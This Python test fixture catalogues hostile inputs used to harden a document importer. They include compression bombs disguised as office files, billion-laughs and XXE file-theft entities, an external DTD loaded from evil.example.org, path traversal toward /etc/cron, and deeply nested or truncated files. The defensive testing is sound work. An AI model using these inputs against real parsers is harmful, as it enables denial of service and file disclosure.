"""Inputs built to do harm. Each is a file's name and how its bytes are made, when they are asked for."""

import gzip
import json
import zipfile
from collections.abc import Callable
from functools import partial

from tests.core.importing.harm import (
    BOMB_ZEROS,
    DATA,
    DEEP,
    DEEP_WORD,
    DEFLATE,
    GZIP,
    LAUGH,
    LAUGHS,
    LETTER,
    MB,
    PLACES,
    RELATED,
    SECRET,
    TEXT_ODT,
    THEFT,
    WORD_NS,
    WORDS,
    altered,
    answer,
    brotli_bomb,
    changed,
    declared,
    deep_mail,
    doubled,
    encrypted_zip,
    feed,
    forwarded,
    huge_sheet,
    long_header,
    looping_pdf,
    lying_directory,
    many_parts,
    overlapping,
    packed,
    packed_archive,
    pdf_bomb,
    zipped,
)

Hostile = tuple[str, Callable[[], bytes]]

#: What must be refused with a sentence.
REFUSED: dict[str, Hostile] = {
    # Bombs.
    "gzip bomb in a web archive": ("a.warc", lambda: answer(packed(GZIP), "gzip")),
    "deflate bomb in a web archive": ("a.warc", lambda: answer(packed(DEFLATE), "deflate")),
    "brotli bomb in a web archive": ("a.warc", lambda: answer(brotli_bomb(), "br")),
    "gzip in gzip in a web archive": (
        "a.warc",
        lambda: answer(gzip.compress(packed(GZIP)), "gzip, gzip"),
    ),
    "archive packed from a bomb": ("a.warc.gz", packed_archive),
    "bomb in a packaged archive": (
        "a.wacz",
        lambda: zipped({"datapackage.json": b"{}", "archive/a.warc.gz": packed_archive()}),
    ),
    "zip bomb as Word": ("a.docx", lambda: changed("libreoffice.docx", word___document__xml=BOMB_ZEROS)),
    "zip bomb as OpenDocument": ("a.odt", lambda: changed("libreoffice.odt", content__xml=BOMB_ZEROS)),
    "zip bomb as a workbook": ("a.xlsx", lambda: changed("libreoffice.xlsx", xl___sharedStrings__xml=BOMB_ZEROS)),
    "zip bomb as a book": ("a.epub", lambda: changed("libreoffice.epub", OEBPS___content__opf=BOMB_ZEROS)),
    "zip bomb of many small files": (
        "a.docx",
        lambda: zipped({f"word/{n}.xml": b"" for n in range(30_000)}, zipfile.ZIP_STORED),
    ),
    "zip in zip in zip": ("a.zip", lambda: zipped({"b.zip": zipped({"c.zip": zipped({"d": BOMB_ZEROS})})})),
    "list of contents that lies": ("a.docx", lying_directory),
    "overlapping files": ("a.docx", overlapping),
    "PDF stream bomb": ("a.pdf", pdf_bomb),
    # Built to deceive.
    "two files of one name": ("a.docx", doubled),
    "paths out of the package": ("a.docx", lambda: changed("libreoffice.docx", ______________etc___cron=b"x")),
    "absolute paths": (
        "a.odt",
        lambda: zipped({"mimetype": TEXT_ODT, "/etc/x": b""}, 0),
    ),
    "encrypted package": ("a.docx", encrypted_zip),
    "no content in the package": ("a.odt", lambda: zipped({"mimetype": TEXT_ODT}, 0)),
    # Entities.
    **{f"billion laughs, {place}": (f"a.{place}", partial(declared, place, LAUGHS)) for place in PLACES},
    **{f"theft of a file, {place}": (f"a.{place}", partial(declared, place, THEFT)) for place in PLACES},
    "billion laughs in a feed": ("a.rss", lambda: feed(LAUGHS)),
    "theft of a file by a feed": ("a.rss", lambda: feed(THEFT)),
    "theft of a file in UTF-16": ("a.rss", lambda: feed(THEFT).decode().encode("utf-16")),
    "quadratic entities": ("a.rss", lambda: feed(b'<!DOCTYPE x [<!ENTITY a11 "' + b"ha" * MB + b'">]>', LAUGH * 1000)),
    "a document type from the web": (
        "a.rss",
        lambda: feed(b'<!DOCTYPE x [<!ENTITY % d SYSTEM "https://evil.example.org/d.dtd"> %d;]>', b""),
    ),
    # Depth.
    "deep HTML": ("a.html", lambda: b"<html><body>" + b"<div>" * DEEP + WORDS.encode()),
    "deep JSON": ("a.jsonl", lambda: b'{"text": ' + b"[" * DEEP + b"]" * DEEP + b"}"),
    "deep feed": ("a.rss", lambda: feed(b"", b"<a>" * DEEP + b"</a>" * DEEP)),
    "deep Word": (
        "a.docx",
        lambda: changed(
            "libreoffice.docx",
            word___document__xml=b"<w:document " + WORD_NS + b">" + DEEP_WORD,
        ),
    ),
    "deep OpenDocument": ("a.odt", lambda: altered("libreoffice.odt", "content.xml", b"The accident", b"<a>" * DEEP)),
    "deep RTF": ("a.rtf", lambda: b"{\\rtf1 " + b"{" * DEEP + WORDS.encode() + b"}" * (DEEP + 1)),
    "deep mail": ("a.eml", lambda: deep_mail(DEEP)),
    "letters in letters": ("a.eml", lambda: forwarded(5000)),
    "a letter of too many parts": ("a.eml", many_parts),
    "letters in four letters": ("a.eml", lambda: forwarded(4)),
    "deep Markdown": ("a.md", lambda: b">" * 20_000 + WORDS.encode()),
    # Size.
    "thirty megabytes of HTML": ("a.html", lambda: b"<html><body>" + b"<p><b>words</b> and <i>more</i>" * MB),
    "a million columns": ("a.csv", lambda: b"Statement," * 1_000_000 + b"\n" + b"words," * 1_000_000),
    "a cell in the last corner": ("a.xlsx", huge_sheet),
    "a JSON number of a million digits": ("a.jsonl", lambda: b'{"text": ' + b"9" * 1_000_000 + b"}"),
    # Damage.
    "PDF cut short": ("a.pdf", lambda: (DATA / "libreoffice.pdf").read_bytes()[:600]),
    "PDF under a password": ("a.pdf", (DATA / "encrypted.pdf").read_bytes),
    "PDF whose pages are in themselves": ("a.pdf", looping_pdf),
    "Word cut short": ("a.docx", lambda: (DATA / "libreoffice.docx").read_bytes()[:5000]),
    "workbook of 1997 cut short": ("a.xls", lambda: (DATA / "libreoffice.xls").read_bytes()[:3000]),
    "archive cut short": ("a.warc.gz", lambda: (DATA / "crawl.warc.gz").read_bytes()[:300]),
    "archive that says too much": ("a.warc", lambda: answer(b"", "", 10**15)),
    "archive that says less than nothing": ("a.warc", lambda: answer(b"<p>" + WORDS.encode(), "", -5)),
    "brotli that is none": ("a.warc", lambda: answer(b"no brotli", "br")),
    "subtitles with broken codes": ("a.vtt", lambda: b"WEBVTT\n\n" + b"00:99:99.999 --> x\nwords\n\n" * 1000),
    "subtitles without end": ("a.srt", lambda: b"1\n00:00:01,0 --> " + b"9" * MB + b":00:00,0\n" + WORDS.encode()),
    "saved page without a page": (
        "a.mht",
        lambda: LETTER + RELATED,
    ),
    "entities nobody closed": ("a.rss", lambda: feed(b"", b"&#x110000; &nothing; <![CDATA[")),
}

#: What can be read, without harm: the file, and words that must be in its text.
READ: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "Word with macros": (
        "a.docm",
        lambda: changed("libreoffice.docx", word___vbaProject__bin=b"\xd0\xcf\x11\xe0 Sub AutoOpen()"),
        "112 passengers aboard",
    ),
    "mixed encodings": ("a.txt", lambda: "Köln, Zürich. ".encode() * 20 + "Genève ".encode("latin-1"), "Köln, Zürich."),
    "bidi controls": (
        "a.txt",
        f"{WORDS}\u202egnisol\u202c and \u2066more\u2069 words.".encode,
        "beacon was dark",
    ),
    "a table with an open quote": ("a.csv", lambda: b'Statement,Who\n"' + WORDS.encode() * 1000, "beacon was dark"),
    "a letter with endless headers": ("a.eml", long_header, "beacon was dark"),
    "a page of open comments": ("a.html", lambda: f"<html><p>{WORDS}".encode() + b"<!--" * 200_000, "beacon was dark"),
    "a page that names a file": (
        "a.html",
        f'<html><body><p>{WORDS}</p><iframe src="{SECRET.as_uri()}"></iframe></body></html>'.encode,
        "beacon was dark",
    ),
    "a page with a theft": (
        "a.html",
        lambda: THEFT.replace(b"DOCTYPE x", b"DOCTYPE html") + f"<html><body><p>{WORDS} &a11;</p>".encode(),
        "beacon was dark",
    ),
    "a letter in two letters": ("a.eml", lambda: forwarded(2), "beacon was dark"),
    "a line of JSON that is none": (
        "a.jsonl",
        (json.dumps({"text": WORDS}) + '\n{"text": \n{]\n').encode,
        "beacon",
    ),
}
